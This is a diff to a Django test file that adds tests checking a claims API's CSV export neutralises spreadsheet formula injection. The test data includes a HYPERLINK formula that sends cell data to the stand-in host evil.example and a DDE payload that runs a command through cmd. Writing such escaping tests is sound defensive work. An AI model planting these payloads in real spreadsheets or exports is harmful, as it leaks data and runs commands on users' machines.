@@ -9,6 +9,8 @@ that is not a positive number falls back to the default or to 1 — neither is a
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import json
 from dataclasses import dataclass, field
 
@@ -461,3 +463,64 @@ def test_admin_login_with_nul_is_a_form_error(client, db):
     response = client.post(reverse("admin:login"), {"username": "nul\x00", "password": "x\x00"})
     assert response.status_code == 200
     assert response.context["form"].errors
+
+
+# --- The export (issue 14): its options, and cells a spreadsheet would run -----------------------------------
+
+EXPORT_CASES = [
+    Bad("export-bom-word", "get", CLAIMS + "export/?bom=x", names="bom"),
+    Bad("export-bom-number", "get", CLAIMS + "export/?format=csv&bom=2", names="bom"),
+    Bad("export-bom-nul", "get", CLAIMS + "export/?format=csv&bom=1%00", names="bom"),
+    Bad("export-bom-ndjson", "get", CLAIMS + "export/?format=ndjson&bom=1", names="bom"),
+]
+
+
+@pytest.mark.parametrize("case", EXPORT_CASES, ids=[c.id for c in EXPORT_CASES])
+def test_export_options_are_refused_clearly(client, world, reviewer_headers, case):
+    test_api_refuses_bad_input_clearly(client, world, reviewer_headers, case)
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"more")'
+DDE = "=cmd|' /C calc'!A0"
+
+# (id, field, the text as stored, the CSV cell). Stored as imports store it (the API trims leading whitespace).
+CELL_CASES = [
+    ("text-equals", "text", FORMULA, "'" + FORMULA),
+    ("text-dde", "text", DDE, "'" + DDE),
+    ("quote-plus", "quote", "+1+" + DDE[1:], "'+1+" + DDE[1:]),
+    ("claimant-minus", "claimant", "-2+3", "'-2+3"),
+    ("explanation-at", "explanation", "@SUM(1+1)", "'@SUM(1+1)"),
+    ("unit-tab", "unit", "\t=1+1", "'\t=1+1"),
+    ("claimant-carriage-return", "claimant", "\r=1+1", "'\r=1+1"),
+    ("quote-fullwidth-equals", "quote", "＝1+1", "'＝1+1"),
+    ("quote-fullwidth-plus", "quote", "＋1", "'＋1"),
+    ("quote-fullwidth-minus", "quote", "－1", "'－1"),
+    ("quote-fullwidth-at", "quote", "＠SUM(A1)", "'＠SUM(A1)"),
+    ("quote-space-equals", "quote", "  =1+1", "'  =1+1"),
+    ("quote-ideographic-space", "quote", "\u3000＝1+1", "'\u3000＝1+1"),
+    ("title-equals", "article_title", FORMULA, "'" + FORMULA),
+    ("quote-plain", "quote", "1+1=2, said the minister", "1+1=2, said the minister"),
+    ("quote-chinese", "quote", "处理时间超过十秒", "处理时间超过十秒"),
+    ("tags-formula", "tags", [DDE, "AI 视频"], '["=cmd|\' /C calc\'!A0","AI 视频"]'),
+]
+
+
+@pytest.mark.parametrize(("name", "field", "stored", "cell"), CELL_CASES, ids=[c[0] for c in CELL_CASES])
+def test_csv_cells_a_spreadsheet_would_run_are_text_and_other_formats_exact(
+    client, db, reviewer_headers, name, field, stored, cell
+):
+    if field == "article_title":
+        claim = factories.PublishedClaimFactory(article=factories.ArticleFactory(title=stored))
+    elif field == "tags":
+        claim = factories.PublishedClaimFactory()
+        claim.tags.add(*(Tag.objects.create(name=tag) for tag in stored))
+    else:
+        claim = factories.PublishedClaimFactory(**{field: stored})
+    export = "/api/v1/claims/export/"
+    text = b"".join(client.get(export, {"format": "csv"}, headers=reviewer_headers).streaming_content).decode()
+    (row,) = [r for r in csv.DictReader(io.StringIO(text, newline="")) if r["id"] == str(claim.pk)]
+    assert row[field] == cell
+    (line,) = client.get(export, {"format": "ndjson"}, headers=reviewer_headers).streaming_content
+    assert json.loads(line)[field] == stored
+    if field in ("text", "quote", "claimant", "explanation", "unit", "tags"):
+        assert client.get(f"{CLAIMS}{claim.pk}/", headers=reviewer_headers).json()[field] == stored
